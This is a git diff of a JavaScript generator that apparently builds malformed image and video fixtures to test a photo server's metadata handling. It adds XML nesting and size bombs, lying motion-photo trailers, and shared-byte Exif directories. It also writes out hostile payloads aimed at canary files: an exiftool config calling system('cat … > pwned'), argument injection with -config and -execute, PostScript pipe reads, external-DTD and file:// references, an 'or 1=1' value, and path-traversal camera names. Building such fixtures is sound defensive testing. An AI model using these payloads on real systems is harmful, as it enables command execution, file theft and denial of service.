@@ -4,6 +4,7 @@ import { deflateSync, gzipSync } from 'node:zlib';
 import { box, chunk, directory, exif, hugeBox, ihdr, join, latin, png, segment, tiff, u16, u16le, u32, u32le, u64, u8, utf8, withChunks, withSegments, xmpSegment } from './bytes.mjs';
 import { adobeXmp, alias, animatedGif, aviWithSubtitles, element, heif, matroska, movie, pages, riff } from './containers.mjs';
 
+const times = (count, bytes) => Buffer.alloc(count * bytes.length, bytes);
 const megabytes = (count) => Buffer.alloc(count << 20);
 const zeros = (bytes) => deflateSync(Buffer.alloc(bytes), { level: 9 });
 
@@ -193,6 +194,25 @@ export function entities({ good, canary }) {
     all[`${name}-inside.tiff`] = join(tiff(directory([[256, 3, 1, 4], [257, 3, 1, 4], [700, 1, packet.length, 50]])), utf8(packet));
     all[`${name}-beside.jpg`] = { bytes: good('photo.jpg'), sidecar: utf8(packet) };
   }
+  const described = (content, attributes = '') => adobeXmp('x', '', attributes).replace('</rdf:Description>', `${content}</rdf:Description>`);
+  const many = (count, part) => Array.from({ length: count }, (_, i) => part(i)).join('');
+  const crowds = {
+    'items': described(`<dc:subject><rdf:Bag>${'<rdf:li/>'.repeat(150_000)}</rdf:Bag></dc:subject>`),
+    'elements': described(many(100_000, (i) => `<dc:a${i}/>`)),
+    'attributes': described('', many(100_000, (i) => `dc:a${i}="" `)),
+    'names': described(many(30_000, (i) => `<n${i}:a xmlns:n${i}="http://n/${i}"/>`)),
+    'stolen-names': described('<lr:hierarchicalSubject xmlns:lr="http://not/"/><digiKam:TagsList xmlns:digiKam="http://not/"/><dc:title xmlns:dc="http://not/"/>'),
+    'levels': described('<dc:a rdf:parseType="Resource">'.repeat(20_000) + '</dc:a>'.repeat(20_000)),
+    'huge': described(`<dc:source>${'a'.repeat(100 << 20)}</dc:source>`),
+  };
+  for (const [name, packet] of Object.entries(crowds)) {
+    all[`${name}-beside.jpg`] = { bytes: good('photo.jpg'), sidecar: utf8(packet) };
+    if (packet.length < 16 << 20) {
+      all[`${name}-inside.png`] = withChunks(good('photo.png'), chunk('iTXt', join('XML:com.adobe.xmp\0\x01\0\0\0', deflateSync(utf8(packet)))));
+      all[`${name}-inside.webp`] = riff('WEBP', ['VP8X', join(u8(4, 0, 0, 0), u8(63, 0, 0, 47, 0, 0))], ['VP8L', good('photo.webp').subarray(20)], ['XMP ', utf8(packet)]);
+      all[`${name}-extended.jpg`] = extended(good('photo.jpg'), packet);
+    }
+  }
   for (const encoding of ['utf-16le', 'utf-16be']) {
     const packet = Buffer.from('\ufeff' + adobeXmp('&e;', types.file[0]), 'utf16le');
     all[`${encoding}-beside.jpg`] = { bytes: good('photo.jpg'), sidecar: encoding === 'utf-16le' ? packet : packet.swap16() };
@@ -209,6 +229,51 @@ function extended(jpeg, packet, length = packet.length) {
     parts.push(segment(0xe1, join('http://ns.adobe.com/xmp/extension/\0', id, u32(length), u32(at), bytes.subarray(at, at + 60_000))));
   }
   return withSegments(jpeg, xmpSegment(adobeXmp('', '', `xmpNote:HasExtendedXMP="${id}"`)), ...parts);
+}
+
+// Exif of so many tags, each of which claims the same bytes.
+function shared(tags, size) {
+  const made = tiff(directory(Array.from({ length: tags }, (_, i) => [i + 1, 7, size, 0])));
+  return join(made, Buffer.alloc(Math.max(0, size - made.length)));
+}
+
+// Photos that say that they hold films, which exiftool and phones find by what their ends and their XMP say.
+export function motionPhotos({ good, canary }) {
+  const photo = good('photo.jpg');
+  const film = good('film.mp4');
+  const all = {};
+  const add = (name, bytes) => (all[name] = { bytes: withSegments(bytes, segment(0xfe, utf8(name))), isExact: true });
+  // Samsung's: blocks, a directory that counts them from its own beginning backwards, its length.
+  const trailer = (data, { count = 1, offset, size, length } = {}) => {
+    const name = latin('MotionPhoto_Data');
+    const block = join(u16le(0), u16le(0x0a30), u32le(name.length), name, data);
+    const list = join('SEFH', u32le(107), u32le(count), u16le(0), u16le(0x0a30), u32le(offset ?? block.length), u32le(size ?? block.length));
+    return join(block, list, u32le(length ?? list.length), 'SEFT');
+  };
+  const container = (items) =>
+    adobeXmp('x', '', 'xmlns:Container="http://ns.google.com/photos/1.0/container/" xmlns:Item="http://ns.google.com/photos/1.0/container/item/"').replace('</rdf:Description>',
+      `<Container:Directory><rdf:Seq>${items.map(([semantic, length, padding = 0]) => `<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="video/mp4" Item:Semantic="${semantic}" Item:Length="${length}" Item:Padding="${padding}"/></rdf:li>`).join('')}</rdf:Seq></Container:Directory></rdf:Description>`);
+  const google = (xmp) => join(withSegments(photo, xmpSegment(xmp)), film);
+  const micro = (offset) => google(adobeXmp('x', '', `xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" GCamera:MicroVideo="1" GCamera:MicroVideoOffset="${offset}"`));
+
+  add('samsung.jpg', join(photo, trailer(film)));
+  add('samsung-count.jpg', join(photo, trailer(film, { count: 0xffffffff })));
+  add('samsung-length.jpg', join(photo, trailer(film, { length: 0xffffffff })));
+  add('samsung-before.jpg', join(photo, trailer(film, { offset: 0xffffffff })));
+  add('samsung-size.jpg', join(photo, trailer(film, { size: 0x7fffffff })));
+  add('samsung-small.jpg', join(photo, trailer(film, { size: 1 })));
+  add('samsung-itself.jpg', join(photo, trailer(join('\0\0\0\x10ftyp', photo))));
+  add('samsung-twice.jpg', join(photo, trailer(join(film, trailer(film)))));
+  for (const offset of [film.length, 0, 1, -1, film.length + 100, 999999999999999, '9'.repeat(400), `${film.length}' or 1=1`]) add(`google-${String(offset).slice(0, 20)}.jpg`, micro(offset));
+  add('google-list.jpg', google(container([['Primary', 0], ['MotionPhoto', film.length]])));
+  add('google-lies.jpg', google(container([['Primary', 0], ['MotionPhoto', 999999999999999, 999999999999999]])));
+  add('google-many.jpg', google(container([...Array.from({ length: 300 }, () => ['GainMap', 999999999999999]), ['MotionPhoto', film.length]])));
+  add('playlist-within.jpg', join(photo, trailer(join(box('ftyp', 'isom\0\0\0\0isom'), `\n#EXTM3U\n#EXTINF:9,\nfile://${canary['secret.ts']}\n#EXT-X-ENDLIST\n`))));
+  add('alias-within.jpg', join(photo, trailer(movie({ codec: 'jpeg', width: 128, height: 128, sample: photo, dref: alias(canary['secret.jpg']) }))));
+  add('bomb-within.jpg', join(photo, trailer(movie({ codec: 'png ', width: 30_000, height: 30_000, sample: png(ihdr(30_000, 30_000, 1, 0), chunk('IDAT', zeros(30_000 * 3_751))) }))));
+  const boxed = (size) => join(good('photo.heic'), u32(size), 'mpvd', film);
+  for (const size of [film.length + 8, 0, 1, 7, 0x7fffffff, 0xffffffff]) all[`box-${size}.heic`] = { bytes: boxed(size), isExact: true };
+  return all;
 }
 
 // Lengths and counts that are lies.
@@ -245,6 +310,18 @@ export function giantAtoms({ good }) {
     'rationals.jpg': tag(0x829a, 5, 0x20000001),
     'makernote.jpg': tag(0x927c, 7, 0x7fffffff, 0xfffffff0),
     'offset.jpg': withSegments(jpeg, exif(join('II*\0', u32le(all32)))),
+    'shared.jpg': withSegments(jpeg, exif(shared(5_000, 60_000))),
+    'shared-many.jpg': withSegments(jpeg, times(40, exif(shared(5_000, 60_000)))),
+    'shared.png': withChunks(good('photo.png'), chunk('eXIf', shared(60_000, 3_000_000))),
+    'shared.webp': riff('WEBP', ['VP8X', join(u8(8, 0, 0, 0), u8(63, 0, 0, 47, 0, 0))], ['VP8L', good('photo.webp').subarray(20)], ['EXIF', shared(60_000, 3_000_000)]),
+    'shared.heic': heif({ items: [['hvc1', Buffer.alloc(8)], ['Exif', join(u32(0), shared(60_000, 3_000_000))]], references: [['cdsc', 2, [1]]] }),
+    'shared.tiff': shared(60_000, 3_000_000),
+    'shared.nef': shared(60_000, 3_000_000),
+    'profiles.jpg': withSegments(jpeg, times(300_000, segment(0xe2, latin('ICC_PROFILE\0\x01\x01x')))),
+    'frames.jpg': withSegments(jpeg, times(500_000, segment(0xc1, join(u8(8), u16(48), u16(64), u8(1, 1, 0x11, 0))))),
+    'comments.jpg': withSegments(jpeg, times(1_000_000, segment(0xfe, latin('x')))),
+    'documents.jpg': withSegments(jpeg, times(300, xmpSegment(adobeXmp('<rdf:li/>'.repeat(6_000))))),
+    'empty-chunks.png': withChunks(good('photo.png'), times(1_000_000, chunk('teSt', Buffer.alloc(0)))),
     'entries.jpg': withSegments(jpeg, exif(join('II*\0', u32le(8), u16le(0xffff), Buffer.alloc(600, 0x11)))),
     'segment.jpg': join(jpeg.subarray(0, 2), u8(0xff, 0xe1), u16(0), jpeg.subarray(2)),
     'segments.jpg': withSegments(jpeg, ...Array.from({ length: 400 }, () => segment(0xe2, join('ICC_PROFILE\0', u8(1, 255), Buffer.alloc(65_000))))),
@@ -331,6 +408,18 @@ export function polyglots({ good, canary }) {
     'document.psd': latin(`%!PS\n(${canary['secret.txt']}) (r) file 1000 string readstring pop show showpage`),
     'postscript.jpg': latin(`%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%cat ${canary['secret.txt']} >${canary.pwned}) (w) file`),
     'postscript.tiff': join(u8(0xc5, 0xd0, 0xd3, 0xc6), u32le(30), u32le(60), Buffer.alloc(18), `%!PS (${canary['secret.txt']}) run`),
+    // What metadata-extractor does not know exiftool is asked for, and that knows much.
+    'config.nef': latin(`%Image::ExifTool::UserDefined = (); system("cat ${canary['secret.txt']} >${canary.pwned}"); 1;\n`),
+    'arguments.nef': latin(`-config\n${canary['secret.txt']}\n-execute\n-o\n${canary.pwned}\n`),
+    'stop.dng': latin('-stay_open\nFalse\n'),
+    'postscript.nef': latin(`%!PS-Adobe-3.0\n%%Title: \\$(cat ${canary['secret.txt']})\n%BeginPhotoshop: 99\n% ${'41'.repeat(50_000)}\n%EndPhotoshop\n`),
+    'torrent.nef': latin('d8:announce3:foo4:info' + 'l'.repeat(200_000)),
+    'torrent-length.nef': latin('d8:announce3:foo4:info999999999999:x'),
+    'list.nef': latin(`<?xml version="1.0"?><!DOCTYPE plist SYSTEM "file://${canary['secret.dtd']}"><plist version="1.0">${'<dict><key>a</key>'.repeat(20_000)}`),
+    'binary-list.nef': join('bplist00', Buffer.alloc(64, 0xaf), Buffer.alloc(6), u8(8, 8), u64(0x7fffffff), u64(0), u64(8)),
+    'loop.dng': latin('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Metadata 1 0 R>>endobj\nxref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer<</Root 1 0 R/Size 2/Prev 95>>\nstartxref\n95\n%%EOF'),
+    'lines.nef': latin(`#EXTM3U\nfile://${canary['secret.txt']}\n`.repeat(20_000)),
+    'link.nef': join(u32le(0x4c), u8(1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46), u32le(0xffffffff), Buffer.alloc(200, 0xff)),
     'zeros.jpg': megabytes(1),
     'zeros.mp4': megabytes(1),
     'empty.jpg': Buffer.alloc(0),
@@ -392,11 +481,17 @@ export function references({ good, canary }) {
     'vobsub': latin(`# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n`),
     'reference-movie': join(box('ftyp', 'qt  \0\0\0\0qt  '), box('moov', box('rmra', box('rmda', box('rdrf', join(u32(0), 'url ', u32(canary.http.length + 1), canary.http, '\0')))))),
   };
-  const extensions = ['mp4', 'mov', 'avi', 'mkv', 'ts', 'mpg', 'webm', 'wmv'];
+  const extensions = ['mp4', 'mov', 'avi', 'mkv', 'ts', 'mpg', 'webm', 'wmv', '3gp', 'm2ts', 'flv', 'mxf'];
   Object.entries(playlists).forEach(([name, bytes], i) => {
     for (const extension of [extensions[i % extensions.length], extensions[(i + 3) % extensions.length]]) all[`${name}.${extension}`] = bytes;
   });
   all['alias.mov'] = movie({ codec: 'jpeg', width: 128, height: 128, sample: good('photo.jpg'), dref: alias(canary['secret.jpg']) });
+  for (const name of ['secret.jpg', 'secret.mp4']) {
+    for (const url of [canary[name], file(name), depth + canary[name].slice(1)]) {
+      all[`url-${Object.keys(all).length}.mp4`] = movie({ codec: 'jpeg', width: 128, height: 128, sample: good('photo.jpg'), dref: box('url ', join(u32(0), url, '\0')) });
+      all[`alias-${Object.keys(all).length}.mov`] = movie({ codec: 'jpeg', width: 128, height: 128, sample: good('photo.jpg'), dref: alias(url) });
+    }
+  }
   all['url.mov'] = movie({ codec: 'jpeg', width: 128, height: 128, sample: good('photo.jpg'), dref: box('url ', join(u32(0), canary.http, '/dref\0')) });
   all['subtitles-hls.avi'] = aviWithSubtitles(good('film.avi'), hls(`${canary.http}/gab2.ts`));
   all['subtitles-file.avi'] = aviWithSubtitles(good('film.avi'), hls(file('secret.ts')));
@@ -419,8 +514,24 @@ export function references({ good, canary }) {
   return all;
 }
 
-// Good photos by bad names. Those that are too long are refused, as by Immich.
+// Of cameras and albums, and what a template of paths may make of them.
+export const badNames = ['../../../../etc/cron.d/pwn', '/etc/passwd', '..', '.', '...', 'NUL\0pwn', 'CON', 'aux.', 'trailing dots...', '\u202egpj.exe', 'ä'.repeat(126), 'line\r\nend', '.keepsake', 'a:b', '{{filename}}', ' ', '.xmp', 'upload'];
+
+const camera = (make, model) => {
+  const values = [make, model].map((text) => join(utf8(text), '\0'));
+  let at = 8 + 2 + 2 * 12 + 4;
+  const entries = values.map((value, i) => {
+    // Four bytes stand in the entry itself.
+    const entry = [0x010f + i, 2, value.length, value.length > 4 ? at : join(value, Buffer.alloc(4)).readUInt32LE()];
+    at += value.length;
+    return entry;
+  });
+  return exif(join(tiff(directory(entries)), values));
+};
+
+// Good photos by bad names, and of bad cameras. Names that are too long are refused, as by Immich.
 export function names({ good }) {
+  const cameras = badNames.map((name, i) => ({ name: `camera-${i}.jpg`, bytes: withSegments(good('progressive.jpg'), camera(name, `${name} ../pwn ${name}`)) }));
   const bidi = '\u202egpj.exe\u202c.jpg';
   return [
     '../../../../etc/cron.d/pwn.jpg',
@@ -469,5 +580,11 @@ export function names({ good }) {
     'photo.jpg.xmp.jpg',
     '.jpg',
     'tab\ttab.jpg',
-  ].map((name) => ({ name, bytes: good('photo.jpg') }));
+    'same.jpg',
+    'same.jpg',
+    'same+1.jpg',
+    '.keepsake.jpg',
+    'COM1.jpg',
+    'dots....jpg',
+  ].map((name) => ({ name, bytes: good('photo.jpg') })).concat(cameras);
 }
